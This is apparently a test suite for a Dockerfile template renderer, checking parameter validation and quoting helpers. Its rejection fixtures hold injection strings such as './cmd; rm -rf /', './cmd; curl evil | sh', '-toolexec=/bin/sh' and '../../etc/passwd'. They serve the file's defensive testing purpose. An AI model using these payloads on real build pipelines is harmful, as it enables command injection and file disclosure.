// "Never run what a spec value says" (issue 12): template parameters are
// validated by their declared kind, and every helper is checked for where its
// value landed in the rendered Dockerfile.
//
// Tool references for what a value may never be:
// - go build: `go build [-o output] [build flags] [packages]`; Go's flag
//   package ends flags at `--` (pkg.go.dev/flag "Flag parsing stops ... after
//   the terminator --"); checked with go1.24 on the engine tests' toolchain
//   image: `go build -o out -- ./cmd/x` builds, `-- -x` is "malformed import
//   path": so the go template passes the package after `--`.
// - -ldflags: cmd/link flags (-extld, -extldflags, -linkmode=external run an
//   external program), https://pkg.go.dev/cmd/link.
// - cargo build: `--bin [<NAME>]` takes an optional value, so the template
//   glues it: `--bin=NAME` (doc.rust-lang.org/cargo/commands/cargo-build.html).
// - pip install: `-r, --requirement <file>` (pip.pypa.io/en/stable/cli/pip_install),
//   given glued: `--requirement=FILE`.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseTemplate, TemplateError, wrap } from '../../src/render/template.js';
import { expandDefault } from '../../src/resolve/templates.js';
import { KINDS, PARAM_KINDS, paramProblem } from '../../src/validate/params.js';
import { brief, compileSpec, goDirs, pos } from '../helpers/spec.js';
import { removeTempDirs, REPO_ROOT } from '../helpers/tree.js';

afterAll(removeTempDirs);

const TEMPLATES = path.join(REPO_ROOT, 'templates');

describe('built-in templates declare a kind for every parameter', () => {
  for (const file of readdirSync(TEMPLATES).filter((f) => f.endsWith('.hbs'))) {
    it(`${file}: every parameter has a known kind and its default passes it`, () => {
      const t = parseTemplate(file, readFileSync(path.join(TEMPLATES, file), 'utf8'));
      // A default may name another parameter (`golang:{go_version}`): checked as the value it becomes.
      const defaults = Object.fromEntries(Object.entries(t.meta.params).map(([n, p]) => [n, typeof p.default === 'string' ? p.default : '']));
      for (const [name, p] of Object.entries(t.meta.params)) {
        expect(PARAM_KINDS, `${file} ${name}`).toContain(p.kind);
        const value = typeof p.default === 'string' ? expandDefault(p.default, defaults) : p.default;
        if (value !== undefined) expect(paramProblem(p.kind, value), `${file} ${name}`).toBeUndefined();
      }
    });
  }
});

describe('one validator per kind', () => {
  it.each([
    ['go-package', ['.', './cmd/api', './...', 'example.com/x/cmd/api', './cmd/a-b_c.d']],
    ['binary-name', ['app', 'my-tool', 'x86_64.bin', 'a+b']],
    ['go-ldflags', ['-s -w', '-s -w -X main.version=1.2.3', '-X=main.v=1', '', '-w=false']],
    ['relative-path', ['requirements.txt', 'public', '.', 'a b/c', 'deps/req.txt']],
    ['port', ['1', '8080', '65535']],
    ['identifier', ['APP_ENV', '_x']],
    ['image', ['golang:1.22.1', 'node:20-bookworm-slim', 'localhost:5000/a/b:1', 'ghcr.io/acme/x@sha256:' + 'a'.repeat(64)]],
    ['version', ['3.12', '1', '1.2.3']],
    ['text', ['anything "quoted" $HOME `x`', 'a -b']],
  ])('%s accepts %j', (kind, values) => {
    for (const v of values) expect(paramProblem(kind as (typeof PARAM_KINDS)[number], v), v).toBeUndefined();
  });

  const rejects: [string, string | string[]][] = [
    // Options and second commands, in every kind: never start with `-`.
    ...PARAM_KINDS.filter((k) => k !== 'go-ldflags' && k !== 'command').map((k): [string, string] => [k, '-oops']),
    ['command', ['-c', 'x']],
    ['go-package', '--toolexec=sh'],
    ['go-package', './cmd; rm -rf /'],
    ['go-package', '../outside'],
    ['go-package', './a/../../b'],
    ['go-package', './cmd api'],
    ['binary-name', '../x'],
    ['binary-name', 'a/b'],
    ['binary-name', 'a b'],
    ['binary-name', "x';id;'"],
    ['go-ldflags', '-extld=sh'],
    ['go-ldflags', '-s -linkmode=external -extldflags=-x'],
    ['go-ldflags', "-X 'main.v=a b'"],
    ['go-ldflags', '-X main.v=1 ; id'],
    ['go-ldflags', '-X -extld=sh'],
    ['relative-path', '/etc/passwd'],
    ['relative-path', '../secrets'],
    ['relative-path', 'a/../../b'],
    ['relative-path', 'C:/x'],
    ['relative-path', 'a\\b'],
    ['relative-path', '*.txt'],
    ['relative-path', ''],
    ['port', '0'],
    ['port', '65536'],
    ['port', '80 81'],
    ['port', '08'],
    ['identifier', '1X'],
    ['identifier', 'A-B'],
    ['image', 'Golang:1.22'],
    ['image', 'golang:1.22 AS evil'],
    ['image', 'golang;id'],
    ['version', '3.12; id'],
    ['version', 'latest'],
    ['binary-name', ['a', 'b']],
  ];
  it.each(rejects)('%s rejects %j', (kind, value) => {
    expect(paramProblem(kind as (typeof PARAM_KINDS)[number], value)).toBeDefined();
  });

  it('every kind is described (for `matrix templates` and the README)', () => {
    for (const k of PARAM_KINDS) expect(KINDS[k].description.length).toBeGreaterThan(5);
  });
});

describe('a `with:` value that fails its kind is a located error before rendering', () => {
  const spec = (withLines: string, template = 'go') => `version: 1\nservices:\n  api:\n    context: api\n    template: ${template}\n    with:\n${withLines}`;

  it.each([
    ['main', '"-toolexec=/bin/sh"'],
    ['main', '"./cmd; curl evil | sh"'],
    ['binary', '"--help"'],
    ['binary', '"../../etc/x"'],
    ['ldflags', '"-extld=/bin/sh"'],
    ['go_image', '"golang:1.22 AS x"'],
  ])('go with.%s = %s: invalid-param at the value, nothing rendered', (key, value) => {
    const src = spec(`      ${key}: ${value}\n`);
    const r = compileSpec(src, goDirs('api'));
    expect(brief(r.diagnostics)).toEqual([{ code: 'invalid-param', ...pos(src, value) }]);
    expect(r.diagnostics[0]!.path).toBe(`services.api.with.${key}`);
    expect(r.diagnostics[0]!.hint).toBeTruthy();
    expect(r.files).toBeUndefined();
  });

  it.each([
    ['rust', 'binary', '"--config=x"'],
    ['python', 'requirements', '"-e git+https://evil/x"'],
    ['python', 'requirements', '"../../etc/passwd"'],
    ['python', 'python_version', '"3.12; id"'],
    ['static', 'dir', '"--from=secret-stage"'],
    ['static', 'port', '"8080 --evil"'],
    ['node', 'cmd', '["-e", "process.exit()"]'],
  ])('%s with.%s = %s is refused', (template, key, value) => {
    const src = spec(`      ${key}: ${value}\n`, template);
    const r = compileSpec(src, { 'api/x': '' });
    expect(brief(r.diagnostics)).toEqual([{ code: 'invalid-param', ...pos(src, value) }]);
  });

  it('a value from `defaults.with` is located there', () => {
    const src = 'version: 1\ndefaults:\n  with:\n    binary: "-x"\nservices:\n  api:\n    context: api\n    template: go\n';
    const r = compileSpec(src, goDirs('api'));
    expect(brief(r.diagnostics)).toEqual([{ code: 'invalid-param', ...pos(src, '"-x"') }]);
  });

  it('the go template passes the package after `--`, cargo --bin and pip --requirement glued', () => {
    const go = compileSpec(spec('      main: ./cmd/api\n'), goDirs('api'));
    expect(go.files!.get('api/Dockerfile')).toContain(" -- './cmd/api'");
    const rust = compileSpec(spec('      binary: hasher\n', 'rust'), { 'api/x': '' });
    expect(rust.files!.get('api/Dockerfile')).toContain("--bin='hasher'");
    const py = compileSpec(spec('      requirements: req.txt\n', 'python'), { 'api/x': '' });
    expect(py.files!.get('api/Dockerfile')).toContain('--requirement="$req"');
  });
});

describe('user templates: an unknown kind is refused at load', () => {
  it('front matter kind must be one of the kinds', () => {
    expect(() => parseTemplate('t.hbs', '{{!--\nparams:\n  x: { kind: shell, default: a }\n--}}\nFROM x\n')).toThrow(TemplateError);
  });
});

describe('helpers are safe wherever a user template puts them (checked on the rendered text)', () => {
  const front = '{{!--\nparams:\n  x: { default: "v" }\n  l: { default: ["a"] }\n--}}\n';
  const BODY_LINE = 6;
  const fail = (body: string, w: Record<string, unknown>): TemplateError => {
    const t = parseTemplate('t.hbs', front + body);
    try {
      t.render(wrap({ with: w, args: [] }) as object);
    } catch (e) {
      expect(e).toBeInstanceOf(TemplateError);
      return e as TemplateError;
    }
    throw new Error('expected a TemplateError');
  };
  const ok = (body: string, w: Record<string, unknown>) => parseTemplate('t.hbs', front + body).render(wrap({ with: w, args: [] }) as object);

  it.each([
    ['sh inside double quotes in RUN', 'FROM a\nRUN echo "{{sh with.x}}"', { x: '$(id)' }, 2, 11],
    ['sh inside single quotes', "FROM a\nRUN echo '{{sh with.x}}'", { x: 'a' }, 2, 11],
    ['sh inside exec-form JSON', 'FROM a\nRUN ["sh", "-c", "{{sh with.x}}"]', { x: 'a' }, 2, 19],
    ['word in RUN (backticks, $( ) in double quotes run)', 'FROM a\nRUN echo {{word with.x}}', { x: '`id`' }, 2, 10],
    ['word in shell-form CMD', 'FROM a\nCMD echo {{word with.x}}', { x: 'a' }, 2, 10],
    ['word in a continued RUN line', 'FROM a\nRUN set -e; \\\n    echo {{word with.x}}', { x: 'a' }, 3, 10],
    ['word inside quotes of a LABEL', 'FROM a\nLABEL a="x{{word with.x}}"', { x: 'a;b' }, 2, 11],
    ['json in shell-form RUN text', 'FROM a\nRUN echo {{json with.l}}', { l: ['$(id)'] }, 2, 10],
    ['json in a RUN heredoc script', 'FROM a\nRUN <<EOF\necho {{json with.l}}\nEOF', { l: ['a'] }, 3, 6],
    ['a value in a parser directive line', '# syntax={{word with.x}}\nFROM a', { x: 'evil/frontend' }, 1, 10],
    ['an ident that would make a directive', '# {{ident with.x}}=`\nFROM a', { x: 'escape' }, 1, 3],
    ['sh value starting with - at a word start', 'FROM a\nRUN tool {{sh with.x}}', { x: '--exec=id' }, 2, 10],
    ['word value starting with - in COPY', 'FROM a\nCOPY {{word with.x}} /d', { x: '--from=other' }, 2, 6],
    ['a dash value after an empty one (the quotes vanish)', 'FROM a\nRUN tool {{sh with.x}}{{sh with.l}}', { x: '', l: '-rf' }, 2, 23],
    ['sh under ONBUILD RUN in double quotes', 'FROM a\nONBUILD RUN echo "{{sh with.x}}"', { x: 'a' }, 2, 19],
    // BuildKit splits the shell form of ADD, COPY, VOLUME, EXPOSE and FROM at whitespace before quotes (parser.go).
    ['word with a space in shell-form COPY', 'FROM a\nCOPY {{word with.x}} /d', { x: 'my files' }, 2, 6],
    ['word with a tab in ADD after a flag', 'FROM a\nADD --chown=1:1 {{word with.x}} /d', { x: 'a\tb' }, 2, 17],
    ['word with a space in VOLUME', 'FROM a\nVOLUME {{word with.x}}', { x: '/data dir' }, 2, 8],
    // {{sh}}'s single quotes do not keep a word together there either: COPY 'a b' /x is the sources 'a and b'.
    ['sh with a space in shell-form COPY', 'FROM a\nCOPY {{sh with.x}} /d', { x: 'a b' }, 2, 6],
    ['sh with a space in FROM', 'FROM {{sh with.x}}', { x: 'img AS x' }, 1, 6],
    ['sh with a space in EXPOSE', 'FROM a\nEXPOSE {{sh with.x}}', { x: '80 22' }, 2, 8],
    // It prints a whole JSON array: nested in an exec-form array, BuildKit refuses the line (errDockerfileNotStringArray).
    ['json inside an exec-form array of CMD', 'FROM a\nCMD ["echo", {{json with.l}}]', { l: ['a'] }, 2, 14],
    ['json inside an exec-form array of RUN', 'FROM a\nRUN ["sh", "-c", {{json with.l}}]', { l: ['a'] }, 2, 18],
  ])('%s: located error', (_name, body, w, line, column) => {
    const e = fail(body, w);
    expect([e.line, e.column]).toEqual([line + BODY_LINE - 1, column]);
    expect(e.hint).toBeTruthy();
  });

  it.each([
    ['sh as its own word', 'FROM a\nRUN echo {{sh with.x}}', { x: "it's $(id) `id`" }],
    ['sh glued to an option', 'FROM a\nRUN tool --name={{sh with.x}}', { x: '-starts-with-dash' }],
    ['sh after -- (the tool ends options there)', 'FROM a\nRUN tool -- {{sh with.x}}', { x: 'pkg' }],
    ['word in COPY and LABEL', 'FROM a\nCOPY {{word with.x}} /d\nLABEL a={{word with.x}}', { x: 'a"$c' }],
    ['word with whitespace in LABEL, ENV and WORKDIR (their parsers read quotes)', 'FROM a\nLABEL a={{word with.x}}\nENV A={{word with.x}}\nWORKDIR {{word with.x}}', { x: 'a b' }],
    ['json as the whole exec form', 'FROM a\nCMD {{json with.l}}\nRUN {{json with.l}}\nHEALTHCHECK --interval=5s CMD {{json with.l}}', { l: ['/bin/app', '--flag'] }],
    ['values in ordinary comments', 'FROM a\n# built from {{word with.x}}\nRUN true', { x: 'a' }],
    ['sh in a RUN heredoc script line', 'FROM a\nRUN <<EOF\necho {{sh with.x}}\nEOF', { x: '$(id)' }],
    ['word in a COPY heredoc (file content)', 'FROM a\nCOPY <<EOF /f\n{{word with.x}}\nEOF', { x: 'a' }],
    ['sh after a closed quote', 'FROM a\nRUN cp "$dir/"{{sh with.x}} /d', { x: 'bin' }],
    ['int inside a JSON string', 'FROM a\nCMD ["httpd", "-p", "{{int with.x}}"]', { x: '8080' }],
    ['sh without whitespace in COPY and FROM (their words lose the quotes)', 'FROM {{sh with.x}}\nCOPY {{sh with.x}} /d', { x: "it's" }],
  ])('%s: accepted', (_name, body, w) => {
    expect(() => ok(body, w)).not.toThrow();
  });

  it('the rendered text has no markers left', () => {
    const out = ok('FROM a\nRUN echo {{sh with.x}}\nCMD {{json with.l}}', { x: 'v', l: ['a'] });
    expect(out).not.toMatch(/[\u0001-\u0003]/);
    expect(out).toBe('FROM a\nRUN echo \'v\'\nCMD ["a"]');
  });
});

describe('`matrix templates` documents kinds and platforms', () => {
  it('each parameter shows its kind, each template its platforms, and every kind is explained', async () => {
    const { matrix } = await import('../helpers/cli.js');
    const { tempDir } = await import('../helpers/tree.js');
    const r = await matrix(['templates'], tempDir());
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^ {2}with\.main \[go-package\]/m);
    expect(r.stdout).toMatch(/^ {2}with\.binary \[binary-name\]/m);
    expect(r.stdout).toMatch(/^ {2}as files {3}darwin\/amd64/m);
    for (const k of PARAM_KINDS) expect(r.stdout).toMatch(new RegExp(`^  ${k} +\\S`, 'm'));
  });
});
